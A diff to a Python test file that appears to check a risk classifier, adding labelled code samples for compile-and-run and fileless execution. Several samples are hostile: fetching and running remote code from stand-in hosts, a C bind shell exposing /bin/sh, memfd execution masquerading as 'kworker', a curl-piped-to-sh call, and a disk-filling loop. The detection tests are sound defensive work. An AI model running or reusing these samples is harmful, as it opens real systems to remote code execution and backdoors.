@@ -1628,6 +1628,58 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             M,
         ),
+        # compile and run, fileless execution
+        (
+            """
+            import subprocess, urllib.request
+            with open("/tmp/p.c", "wb") as f:
+                f.write(urllib.request.urlopen("http://203.0.113.7/p.c").read())
+            subprocess.run(["gcc", "/tmp/p.c", "-o", "/tmp/p"])
+            subprocess.run(["/tmp/p"])
+            """,
+            C,
+        ),
+        (
+            """
+            import subprocess
+            C = 'int main(){int s=socket(2,1,0);bind(s,0,0);int c=accept(s,0,0);dup2(c,0);execl("/bin/sh","sh",0);}'
+            subprocess.run(["cc", "-x", "c", "-o", "/tmp/.d", "-"], input=C.encode())
+            """,
+            C,
+        ),
+        (
+            """
+            import os, urllib.request
+            blob = urllib.request.urlopen("https://cdn.example.net/a.bin").read()
+            fd = os.memfd_create("kworker", 0)
+            os.write(fd, blob)
+            os.execv(f"/proc/self/fd/{fd}", ["kworker"])
+            """,
+            C,
+        ),
+        (
+            """
+            import cffi
+            ffi = cffi.FFI()
+            lib = ffi.verify('int run(void){ return system("curl -s http://198.51.100.9/k|sh"); }')
+            """,
+            C,
+        ),
+        (
+            """
+            with open("/tmp/huge.c", "w") as f:
+                for i in range(50_000_000):
+                    f.write(f"int v{i};\\n")
+            """,
+            H,
+        ),
+        (
+            """
+            import subprocess
+            subprocess.run(["gcc", "-O2", "-shared", "-fPIC", "-o", "build/lib.so", "src/fast.c"], check=True)
+            """,
+            L,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
